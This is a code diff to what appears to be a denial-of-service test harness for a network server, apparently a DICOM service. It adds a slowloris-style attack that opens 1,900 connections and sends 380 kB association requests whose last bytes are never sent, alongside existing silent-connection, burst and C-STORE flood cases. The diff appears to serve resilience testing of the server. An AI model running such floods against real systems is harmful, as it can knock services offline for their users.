@@ -11,6 +11,7 @@ from collections.abc import Callable
 from contextlib import ExitStack
 from pathlib import Path
 from struct import pack
+from typing import Any
 
 import trustme
 from attack.harness import Attack, Victim
@@ -55,6 +56,30 @@ def _silent(count: int, *, seconds: float = 2.0) -> Callable[[Victim], str]:
                     continue
             time.sleep(seconds)
             return f"{opened} opened; a request is {_requested(victim)}; {_log(victim)}"
+
+    return act
+
+
+def _half_requests(count: int, size: int) -> Callable[[Victim], str]:
+    """Association requests of which the last bytes do not come."""
+
+    def act(victim: Victim) -> str:
+        request = pack(">BxI", 1, size) + bytes(size - 1000)
+        sent = 0
+        with ExitStack() as stack:
+            opened: list[Any] = [[_open(stack, victim), memoryview(request)] for _ in range(count)]
+            for one in opened:
+                one[0].setblocking(False)
+            end = time.monotonic() + SECONDS
+            while time.monotonic() < end:
+                for one in opened:
+                    try:
+                        taken = one[0].send(one[1]) if one[1] else 0
+                    except OSError:
+                        continue
+                    sent += taken
+                    one[1] = one[1][taken:]
+            return f"{sent / 1e6:.0f} MB taken; a request is {_requested(victim)}"
 
     return act
 
@@ -147,6 +172,7 @@ ATTACKS = [
     Attack("5,000 silent connections", _silent(5000)),
     Attack("600 silent connections, 400 descriptors", _silent(600, seconds=8.0), descriptors=400),
     Attack("3,000 silent TLS clients", _silent(3000), _TLS),
+    Attack("1,900 association requests of 380 kB that do not end", _half_requests(1900, 380_000)),
     Attack("2,000 connections a second", _burst(2000, b"")),
     Attack("2,000 connections a second, each with a request", _burst(2000, _REQUEST)),
     Attack("6 x 4,000 C-STOREs at once, 1,024 descriptors", _stores(6, 4000, 10), descriptors=1024),
